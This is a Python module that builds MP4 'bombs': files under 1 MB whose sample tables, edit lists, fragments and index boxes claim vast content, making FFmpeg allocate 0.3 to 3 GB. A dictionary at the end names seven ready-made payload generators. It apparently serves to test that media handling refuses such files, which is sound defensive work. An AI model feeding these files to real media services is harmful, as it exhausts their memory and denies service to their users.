"""Mp4 files of a few bytes that make FFmpeg take gigabytes: each promises what no byte of the file backs."""

from __future__ import annotations

import struct
from collections.abc import Callable


def box(kind: bytes, *content: bytes) -> bytes:
    """Return a box (ISO/IEC 14496-12, 4.2)."""
    data = b"".join(content)
    return struct.pack(">I4s", 8 + len(data), kind) + data


def numbers(*values: int) -> bytes:
    """Return 32-bit numbers, most significant byte first."""
    return struct.pack(f">{len(values)}I", *values)


_MATRIX = numbers(0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000)
_TYPE = box(b"ftyp", b"isom", numbers(0), b"isom")

MEDIA_START = len(_TYPE) + 8
"""Where the media of a `movie` begin."""


def track(
    number: int = 1,
    *,
    audio: bool = False,
    samples: int = 0,
    step: int = 1,
    sizes: bytes = b"",
    chunks: tuple[int, ...] = (MEDIA_START,),
    per_chunk: int | None = None,
    edits: int = 0,
    length: int = 0,
    more: bytes = b"",
) -> bytes:
    """Return a track of mpeg4 video or 8-bit PCM whose samples are all of one size, so that no table lists them.

    Args:
        number: The track's ID.
        audio: Whether it is audio.
        samples: How many samples it promises.
        step: The duration of each in ticks of 1/1000 s.
        sizes: The size of each, 32 bits; all have one byte by default, and no table.
        chunks: Where its chunks begin.
        per_chunk: How many samples each chunk promises; all of them by default.
        edits: How many times its edit list shows it.
        length: For how many ticks each time.
        more: Further tables. Of two of a kind FFmpeg may take either.
    """
    header = box(
        b"tkhd", numbers(3, 0, 0, number, 0, length * max(1, edits), 0, 0, 0, 0), _MATRIX, numbers(64 << 16, 48 << 16)
    )
    edit_list = box(b"edts", box(b"elst", numbers(0, edits), numbers(length, 0, 1 << 16) * edits)) if edits else b""
    handler = box(b"hdlr", numbers(0, 0), b"soun" if audio else b"vide", numbers(0, 0, 0), b"\0")
    entry = numbers(0, 1)
    if audio:
        entry = box(b"raw ", entry, numbers(0, 0), struct.pack(">HHHHI", 1, 8, 0, 0, 8000 << 16))
    else:
        entry = box(b"mp4v", entry, bytes(16), struct.pack(">HH", 64, 48), bytes(42), struct.pack(">Hh", 24, -1))
    table = box(
        b"stbl",
        box(b"stsd", numbers(0, 1), entry),
        box(b"stts", numbers(0, 1, samples, step) if samples else numbers(0, 0)),
        box(b"stsc", numbers(0, 1, 1, samples if per_chunk is None else per_chunk, 1) if samples else numbers(0, 0)),
        box(b"stsz", numbers(0, 0 if sizes else 1, samples), sizes),
        box(b"stco", numbers(0, len(chunks) if samples else 0, *(chunks if samples else ()))),
        more,
    )
    media = box(b"smhd", numbers(0, 0)) if audio else box(b"vmhd", numbers(1, 0, 0))
    return box(
        b"trak", header, edit_list,
        box(b"mdia", box(b"mdhd", numbers(0, 0, 0, 1000, samples * step, 0)), handler, box(b"minf", media, table)),
    )  # fmt: skip


def movie(*tracks: bytes, fragmented: bool = False, after: bytes = b"", media: bytes = bytes(1000)) -> bytes:
    """Return an mp4 with its media, then these tracks; `after` follows its header."""
    defaults = b"".join(box(b"trex", numbers(0, 1 + index, 1, 1, 1, 0)) for index in range(len(tracks)))
    header = box(
        b"moov",
        box(
            b"mvhd", numbers(0, 0, 0, 1000, 1000, 1 << 16, 1 << 24, 0, 0), _MATRIX, bytes(24), numbers(1 + len(tracks))
        ),
        *tracks,
        box(b"mvex", defaults) if fragmented else b"",
    )
    return _TYPE + box(b"mdat", media) + header + after


_FRAGMENT_LENGTH = 72


def fragment(samples: int, number: int = 1, *, size: int = 1) -> bytes:
    """Return a fragment of 72 bytes that promises so many samples of one size; their media follow it."""
    header = box(b"tfhd", numbers(0x20010, 1, size))  # Places count from the fragment's start.
    run = box(b"trun", numbers(1, samples, _FRAGMENT_LENGTH + 8))
    return box(b"moof", box(b"mfhd", numbers(0, number)), box(b"traf", header, run))


def fragments(count: int, samples: int) -> bytes:
    """Return a fragmented mp4 whose fragments promise so many samples each."""
    content = b"".join(fragment(samples, 1 + index) for index in range(count))
    return movie(track(), fragmented=True, after=content)


BOMBS: dict[str, Callable[[], bytes]] = {
    "one-fragment": lambda: fragments(1, 85_000_000),
    "four-fragments": lambda: fragments(4, 20_000_000),
    "samples": lambda: movie(track(samples=21_000_000)),
    "edits": lambda: movie(track(samples=1_000_000, edits=60, length=1_000_000)),
    "pcm": lambda: movie(
        track(samples=1000),
        track(2, audio=True, samples=4_000_000, per_chunk=2_000_000_000, chunks=(MEDIA_START,) * 30),
    ),
    "tracks-of-fragments": lambda: movie(
        *(track(1 + index) for index in range(900)), fragmented=True, after=box(b"moof") * 4000
    ),
    "tracks-of-index": lambda: movie(
        *(track(1 + index) for index in range(900)),
        fragmented=True,
        after=box(b"sidx", numbers(0, 1, 1000, 0, 0, 20_000), numbers(100, 100, 0) * 20_000),
    ),
}
"""Each is below 1 MB, and takes 0.3 to 3 GB unless it is refused."""
